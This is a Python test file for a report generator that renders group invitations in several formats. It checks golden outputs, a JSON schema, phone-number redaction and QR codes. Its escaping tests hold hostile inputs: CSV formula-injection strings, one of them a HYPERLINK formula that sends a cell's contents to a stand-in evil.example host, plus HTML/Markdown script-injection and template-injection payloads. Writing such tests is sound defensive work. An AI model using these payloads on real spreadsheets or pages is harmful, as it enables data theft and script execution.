"""Whole outputs of `invites`, compared with files that were read by somebody, and with the schema.

After a wanted change: `RENEW_GOLDEN=1 pytest tests/reports/test_invites.py`, then read the difference in Git.
"""

from __future__ import annotations

import csv as stdlib_csv
import io
import json as stdlib_json
import re
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, get_args

import jsonschema
import pytest
import segno
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from reconciler.errors import Problem
from reconciler.model import number
from reconciler.model.messages import Invitations, InviteStatus
from reconciler.report import failure, invites, qr
from reconciler.report.redact import Redactor
from reconciler.report.section import Look

from . import goldens, invitations
from .hostile import HOSTILE, SGR, assert_harmless, invitations_with
from .invitations import LINK
from .runs import RUN, draw, section
from .samples import OPEN_REDACTOR, REDACTOR, STRANGER

GOLDEN = Path(__file__).parent / "golden_invites"
SCHEMA = Path(__file__).resolve().parents[2] / "schemas/invites.schema.json"
SAMPLES = {
    "everything": invitations.EVERYTHING,
    "ready": invitations.READY,
    "nobody": invitations.NOBODY,
    "empty": Invitations(groups=()),
}


def drawn(
    name: str,
    found: Invitations,
    redactor: Redactor = REDACTOR,
    pages: str | None = None,
    **look: Any,
) -> str:
    """Invitations in a format; `pages` are those of a sandbox."""
    run = replace(RUN, complete=found.all_read, pages=pages)
    return draw(name, [section(invites.told(found, redactor), run)], Look(**look))


CASES: dict[str, Callable[[], str]] = {
    "everything.txt": lambda: drawn("text", invitations.EVERYTHING),
    "narrow.txt": lambda: drawn("text", invitations.EVERYTHING, width=40),
    "colour.txt": lambda: drawn("text", invitations.EVERYTHING, color=True),
    "ready.txt": lambda: drawn("text", invitations.READY),
    "codes.txt": lambda: drawn("text", invitations.READY, codes=True),
    "everything.md": lambda: drawn("markdown", invitations.EVERYTHING),
    "everything.html": lambda: drawn("html", invitations.EVERYTHING),
    "nobody.md": lambda: drawn("markdown", invitations.NOBODY),
    "nobody.txt": lambda: drawn("text", invitations.NOBODY),
    "everything.json": lambda: drawn("json", invitations.EVERYTHING),
    "everything.csv": lambda: drawn("csv", invitations.EVERYTHING),
}


@pytest.mark.parametrize("tag", goldens.LANGUAGES)
@pytest.mark.parametrize("name", CASES)
def test_output(name: str, tag: str) -> None:
    goldens.compare(GOLDEN, name, tag, CASES[name])


def test_no_file_is_left_over() -> None:
    goldens.check_none_is_left_over(GOLDEN, CASES)


def test_a_link_stays_in_one_piece() -> None:
    for name in ("everything.txt", "narrow.txt", "everything.csv", "everything.json", "everything.md"):
        assert LINK in CASES[name]()


def test_only_numbers_of_who_is_invited_are_shown() -> None:
    for name, render in CASES.items():
        output = SGR.sub("", render())
        assert "98888-7777" not in output.replace(number.written(STRANGER), ""), name
        assert "NotThisOne" not in output, name
        assert f"{STRANGER}-15136" not in output.replace(f"{STRANGER}-1513616971", ""), name
    assert "98888-7777" in drawn("text", invitations.EVERYTHING, OPEN_REDACTOR)


# --- schema -----------------------------------------------------------------------------------------------


def document(found: Invitations) -> Any:
    return stdlib_json.loads(drawn("json", found))


def validator() -> jsonschema.Draft202012Validator:
    schema = stdlib_json.loads(SCHEMA.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.mark.parametrize("found", SAMPLES.values(), ids=SAMPLES)
def test_invitations_keep_to_their_schema(found: Invitations) -> None:
    validator().validate(document(found))


SPOILED: dict[str, Callable[[Any], object]] = {
    "no link": lambda found: found["groups"][6].pop("link"),
    "ready without a link": lambda found: found["groups"][6].update(link=None),
    "a junk link": lambda found: found["groups"][6].update(link="undefined"),
    "a link that is not to be given": lambda found: found["groups"][8].update(link=LINK),
    "no reason": lambda found: found["groups"][7].update(notes=[]),
    "an unknown status": lambda found: found["groups"][0].update(status="fine"),
    "a masked number": lambda found: found["groups"][6]["people"][0].update(number="+55 19 •••• 0002"),
    "no role": lambda found: found["groups"][6]["people"][0].pop("as"),
    "a contact that is null": lambda found: found["groups"][6]["people"][0].update(contact=None),
}


@pytest.mark.parametrize("spoil", SPOILED.values(), ids=SPOILED)
def test_the_schema_refuses_what_a_consumer_could_not_use(spoil: Callable[[Any], object]) -> None:
    found = document(invitations.EVERYTHING)
    assert validator().is_valid(found)
    spoil(found)
    assert not validator().is_valid(found)


def test_keys_and_their_order_are_the_contract_s() -> None:
    found = document(invitations.EVERYTHING)
    assert list(found)[:2] == ["format_version", "kind"]
    assert {group["status"] for group in found["groups"]} == set(get_args(InviteStatus))
    for group in found["groups"]:
        assert list(group)[:5] == ["name", "id", "subject", "link", "people"]
    assert list(found["groups"][6]["people"][0])[:3] == ["number", "contact", "as"]
    assert found["groups"][6]["people"][4] == {"number": f"+{STRANGER}", "as": "member"}
    assert found["groups"][6]["people"][1]["sent"] == {
        "at": "2026-11-20T23:59:59Z",
        "times": 2,
        "status": "sent",
    }


# --- hostile words ----------------------------------------------------------------------------------------


FORMATS: dict[str, Callable[[str], str]] = {
    "text": lambda words: drawn("text", invitations_with(words)),
    "colour": lambda words: drawn("text", invitations_with(words), color=True),
    "json": lambda words: drawn("json", invitations_with(words)),
    "csv": lambda words: drawn("csv", invitations_with(words)),
    "markdown": lambda words: drawn("markdown", invitations_with(words)),
    "html": lambda words: drawn("html", invitations_with(words)),
}


@pytest.mark.parametrize("words", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("name", FORMATS)
def test_no_character_acts(name: str, words: str) -> None:
    output = FORMATS[name](words)
    assert_harmless(name, output)
    assert not re.search(r"^\s*::", SGR.sub("", output), re.MULTILINE)
    if name == "json":
        validator().validate(stdlib_json.loads(output))


def rows(output: str, delimiter: str = ",") -> list[list[str]]:
    return list(stdlib_csv.reader(io.StringIO(output, newline=""), delimiter=delimiter))


COLUMNS = rows(CASES["everything.csv"]())[0]

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example"&A1;"x")',
    "＝1+1",
    "x;=1+1",
    'x"; "=1+1',
    "x;y; @SUM(A1)",
    "'=1+1;=1+1",
    '"=1+1',
)


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("words", FORMULAS)
def test_no_cell_is_a_formula_however_the_program_divides_a_line(words: str, delimiter: str) -> None:
    for row in rows(FORMATS["csv"](words), delimiter):
        for cell in row:
            assert not re.match(r"[\s\"]*[=+\-@＝＋－＠]", cell), cell


@given(st.text(max_size=60))
@settings(deadline=None)
def test_a_table_holds_whatever_was_written_row_by_row(words: str) -> None:
    output = FORMATS["csv"](words)
    assert_harmless("csv", output)
    found = rows(output)
    assert found[0] == COLUMNS
    assert len(found) == 3, "one row a person, and the head"
    assert all(len(row) == len(COLUMNS) for row in found)
    assert found[1][2] == LINK
    assert found[1][5].replace(" ", "").replace("-", "") == STRANGER


def test_a_number_is_neither_a_quantity_nor_a_formula_nor_a_day() -> None:
    for row in rows(CASES["everything.csv"]())[1:]:
        assert re.fullmatch(r"55 [0-9]{2} [0-9]{4,5}-[0-9]{4}", row[COLUMNS.index("number")])
    assert number.written("14155552671") == "1415555-2671"
    assert number.written("551932345678") == "55 19 3234-5678"


def test_ordinary_words_stay_as_they_are() -> None:
    row = rows(FORMATS["csv"]("José d'Ávila - São Paulo ☕, 100% (a+b)"))[1]
    assert row[4] == "José d'Ávila - São Paulo ☕, 100% (a+b)"


# --- Markdown and the sheet -------------------------------------------------------------------------------


def tokens(markdown: str) -> list[Token]:
    """What GitHub's dialect makes of it, inline tokens too."""
    found = MarkdownIt("gfm-like").parse(markdown)
    return [inner for token in found for inner in (token, *(token.children or ()))]


MARKDOWN = (
    "[x](https://evil.example)",
    "![x](https://evil.example/p.png)",
    "<img src=x onerror=alert(1)>",
    "@everybody",
    "https://evil.example",
    "www.evil.example",
    "`a` [x](//evil.example) ``b``",
    "``` x",
    "# h",
    "a | b",
    "\\`x\\`",
    "`",
    "$$x$$",
)


def assert_markdown(words: str) -> None:
    """Nobody's words make anything of Markdown but a code span."""
    output = FORMATS["markdown"](words)
    assert_harmless("markdown", output)
    found = tokens(output)
    links = {str(token.attrs["href"]) for token in found if token.type == "link_open"}
    assert links == {LINK}
    assert not {token.type for token in found} & {"html_inline", "html_block", "image", "fence", "code_block"}
    # Outside of code spans there are our own words only, whatever theirs are.
    ours = [token.content for token in found if token.type == "text"]
    plain = [token.content for token in tokens(FORMATS["markdown"]("x")) if token.type == "text"]
    assert [text.strip() for text in ours if text.strip()] == [text.strip() for text in plain if text.strip()]


@pytest.mark.parametrize("words", [word for word in (*MARKDOWN, *HOSTILE.values()) if word.strip()])
def test_nobodys_words_are_markdown(words: str) -> None:
    assert_markdown(words)


@given(st.text(min_size=1, max_size=40).filter(str.strip), st.sampled_from(["", "`", "``", "\n"]))
def test_no_text_at_all_is_markdown(words: str, edge: str) -> None:
    assert_markdown(f"{edge}{words}{edge}")


class Elements(HTMLParser):
    """The elements of a page and their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("words", [*MARKDOWN, *HOSTILE.values(), '"><script>', "javascript:x", "{{ 7*7 }}"])
def test_nobodys_words_are_html(words: str) -> None:
    """The same elements whatever the words are, and nothing that is loaded or run."""
    page = FORMATS["html"](words)
    found, plain = Elements(page).found, Elements(FORMATS["html"]("x")).found
    assert [tag for tag, _ in found] == [tag for tag, _ in plain]
    assert {name for _, attributes in found for name in attributes} == {
        name for _, attributes in plain for name in attributes
    }
    assert {attributes["href"] for _, attributes in found if "href" in attributes} == {LINK}
    sources = [str(attributes["src"]) for _, attributes in found if "src" in attributes]
    assert sources
    assert all(source.startswith("data:image/svg+xml") for source in sources)
    assert "default-src 'none'" in page
    assert "49" not in page or "7*7" not in words


def test_a_code_is_of_a_link_and_of_nothing_else() -> None:
    for junk in ("", "undefined", "https://evil.example", f"{LINK}?x"):
        with pytest.raises(ValueError, match="no invite link"):
            qr.for_terminal(junk)
        with pytest.raises(ValueError, match="no invite link"):
            qr.as_data_uri(junk)


def test_a_code_on_a_terminal_has_every_module_and_a_light_border() -> None:
    """Light is drawn, on the dark ground of a terminal: `█▀` is light above, `█▄` below."""
    lines = qr.for_terminal(LINK)
    rows = [[char in mark for char in line] for line in lines for mark in ("█▀", "█▄")]
    modules = [[bool(dark) for dark in row] for row in segno.make(LINK, error="l", boost_error=False).matrix]
    size = len(modules)
    assert all(len(row) == size + 4 for row in rows)
    inner = [[not light for light in row[2:-2]] for row in rows[2 : size + 2]]
    assert inner == modules
    assert all(all(row) for row in (*rows[:2], *rows[size + 2 :]))
    assert all(row[0] and row[1] and row[-1] and row[-2] for row in rows)


def test_colours_keep_a_code_light_on_dark() -> None:
    shown = drawn("text", invitations.READY, color=True, codes=True)
    assert shown.count("\x1b[97;40m") == len(qr.for_terminal(LINK))


@pytest.mark.parametrize("words", [word for word in (*MARKDOWN, *HOSTILE.values()) if word.strip()])
def test_what_stands_after_a_run_that_failed_is_escaped(words: str) -> None:
    page, plain = (failed("html", text) for text in (words, "x"))
    assert_harmless("html", page)
    assert [tag for tag, _ in Elements(page).found] == [tag for tag, _ in Elements(plain).found]
    listed, plain = (failed("markdown", text) for text in (words, "x"))
    assert_harmless("markdown", listed)
    assert {token.type for token in tokens(listed)} == {token.type for token in tokens(plain)}


def failed(name: str, words: str) -> str:
    """What a format says of a run that ended in an error."""
    problem = Problem("x", words, words)
    return draw(name, [section(failure.told("invites", problem), problem=problem)])
